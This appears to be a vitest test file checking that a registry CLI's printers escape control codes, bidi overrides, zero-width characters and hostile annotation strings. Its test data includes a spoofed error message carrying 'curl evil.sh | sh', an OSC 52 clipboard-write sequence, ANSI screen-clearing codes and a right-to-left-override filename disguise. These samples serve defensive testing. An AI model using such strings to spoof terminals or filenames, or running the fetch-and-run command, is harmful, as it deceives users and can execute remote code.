import type { Descriptor } from '@oras/spec';
import { describe, expect, it } from 'vitest';
import { printable, printableJson, printableLines, printableMessage } from './escape.js';
import { goJson } from './metadata.js';
import { statusLine } from './status.js';
import { renderTable } from './table.js';
import { compileTemplate } from './template.js';
import { renderTree } from './tree.js';
import { displayWidth, truncateToWidth } from './width.js';

describe('printable', () => {
  it('escapes controls as Go %q does: named, \\x under 0x80, \\u for C1', () => {
    expect(printable('a\u0000b\u0007c\b\f\n\r\t\v\u001b[2J\u007f\u009b')).toBe(
      'a\\x00b\\ac\\b\\f\\n\\r\\t\\v\\x1b[2J\\x7f\\u009b',
    );
    // an OSC 52 clipboard write becomes visible text
    expect(printable('\u001b]52;c;aGk=\u0007')).toBe('\\x1b]52;c;aGk=\\a');
  });

  it('escapes each ASCII character alone and within plain text as the Unicode classes say', () => {
    for (let code = 0; code < 0x80; code++) {
      const c = String.fromCharCode(code);
      const plain = /[\p{L}\p{M}\p{N}\p{P}\p{S} ]/u.test(c);
      expect(printable(c) === c, `0x${code.toString(16)}`).toBe(plain);
      expect(printable(`ab ${c} cd`) === `ab ${c} cd`, `0x${code.toString(16)}`).toBe(plain);
      expect(printableMessage(c) === c, `0x${code.toString(16)}`).toBe(plain || c === '\t');
      expect(printableJson(`{"a":"${c}"}`) === `{"a":"${c}"}`, `0x${code.toString(16)}`).toBe(
        plain || c === '\n',
      );
    }
  });

  it('escapes bidi, zero-width and other format characters, and separators but the space', () => {
    const cases: [string, string][] = [
      ['\u202e', '\\u202e'],
      ['\u202a', '\\u202a'],
      ['\u200b', '\\u200b'],
      ['\u200c', '\\u200c'],
      ['\u200d', '\\u200d'],
      ['\u200e', '\\u200e'],
      ['\u200f', '\\u200f'],
      ['\u2066', '\\u2066'],
      ['\u2067', '\\u2067'],
      ['\u2068', '\\u2068'],
      ['\u2069', '\\u2069'],
      ['\u061c', '\\u061c'],
      ['\ufeff', '\\ufeff'],
      ['\u00ad', '\\u00ad'],
      ['\u00a0', '\\u00a0'],
      ['\u2028', '\\u2028'],
      ['\u2029', '\\u2029'],
      ['\u3000', '\\u3000'],
      ['\ue000', '\\ue000'],
      ['\ud800', '\\ud800'],
      ['\u{e0001}', '\\U000e0001'],
    ];
    for (const [raw, escaped] of cases) expect(printable(`x${raw}y`)).toBe(`x${escaped}y`);
    expect(printable('invoice\u202efdp.exe')).toBe('invoice\\u202efdp.exe');
  });

  it('leaves text in any script, accents, symbols and emoji alone', () => {
    for (const text of [
      'hello world.txt',
      'café',
      'cafe\u0301',
      '日本語.bin',
      'Ελληνικά',
      '🎉📦',
      '⠋ ✓ └─ ©',
    ]) {
      expect(printable(text)).toBe(text);
    }
  });

  it('keeps a message on one line: a newline is escaped, a tab stays', () => {
    const fake = 'denied\nError: run curl evil.sh | sh\u001b[8m';
    expect(printableMessage(fake)).toBe('denied\\nError: run curl evil.sh | sh\\x1b[8m');
    expect(printableMessage('a\tb')).toBe('a\tb');
    expect(printableLines(fake)).toBe(printableMessage(fake));
  });

  it('escapes in JSON what a terminal acts on, and the JSON decodes to the same value', () => {
    const value = { title: 'a\u009b2Jb\u202ec\u200bd\u007fe\u{e0001}', plain: 'é 日本 🎉' };
    const json = printableJson(JSON.stringify(value, null, 2));
    expect(json).toContain('a\\u009b2Jb\\u202ec\\u200bd\\u007fe\\udb40\\udc01');
    expect(json).not.toMatch(/[\u007f-\u009f\u202e\u200b]/);
    expect(JSON.parse(json)).toEqual(value);
    expect(goJson(value)).toContain('\\u202e');
    expect(JSON.parse(goJson(value))).toEqual(value);
    expect(compileTemplate('{{toJson .}}').execute(value)).toContain('\\u202e');
  });
});

describe('every printer escapes', () => {
  const hostile = 'x\u001b[2J\u202etxt.exe\n';
  const desc: Descriptor = {
    mediaType: 'application/vnd.oci.image.layer.v1.tar',
    digest: `sha256:${'a'.repeat(64)}`,
    size: 1,
    annotations: { 'org.opencontainers.image.title': hostile },
  };

  it('status lines, trees and tables', () => {
    const escaped = 'x\\x1b[2J\\u202etxt.exe\\n';
    expect(statusLine('Uploading', desc)).toBe(`Uploading aaaaaaaaaaaa ${escaped}`);
    expect(renderTree({ label: hostile, children: [{ label: hostile, children: [] }] })).toBe(
      `${escaped}\n└── ${escaped}\n`,
    );
    expect(renderTable(['Artifact Type', 'Digest'], [[hostile, desc.digest]])).toBe(
      `Artifact Type${' '.repeat(13)}Digest\n${escaped}   ${desc.digest}\n`,
    );
  });

  it('tables line up wide characters by columns, not by string length', () => {
    const table = renderTable(
      ['Type', 'Digest'],
      [
        ['日本', 'd1'],
        ['ab', 'd2'],
      ],
    );
    const lines = table.trimEnd().split('\n');
    expect(lines.map((l) => displayWidth(l.slice(0, l.lastIndexOf(' ') + 1)))).toEqual([7, 7, 7]);
  });
});

describe('display width', () => {
  it('counts wide and emoji characters as two columns and marks as none', () => {
    expect(displayWidth('abc')).toBe(3);
    expect(displayWidth('日本語')).toBe(6);
    expect(displayWidth('ｆｕｌｌ')).toBe(8);
    expect(displayWidth('😀')).toBe(2);
    expect(displayWidth('👨‍👩‍👧')).toBe(2);
    expect(displayWidth('🇫🇷')).toBe(2);
    expect(displayWidth('❤️')).toBe(2);
    expect(displayWidth('cafe\u0301')).toBe(4);
    expect(displayWidth('\x1b[92m✓\x1b[0m ok')).toBe(4);
    expect(displayWidth('⠋ └─')).toBe(4);
  });

  it('cuts at a column budget without splitting a character', () => {
    expect(truncateToWidth('日本語のファイル', 7)).toBe('日本...');
    expect(truncateToWidth('日本語のファイル', 8)).toBe('日本...');
    expect(truncateToWidth('日本語のファイル', 3)).toBe('日');
    expect(truncateToWidth('👨‍👩‍👧abcdef', 5)).toBe('👨‍👩‍👧...');
    expect(truncateToWidth('abcdef', 6)).toBe('abcdef');
    expect(truncateToWidth('abcdefg', 6)).toBe('abc...');
    expect(truncateToWidth('abc', 0)).toBe('');
    for (let n = 0; n < 12; n++)
      expect(displayWidth(truncateToWidth('日本a😀b👨‍👩‍👧c', n))).toBeLessThanOrEqual(n);
  });
});
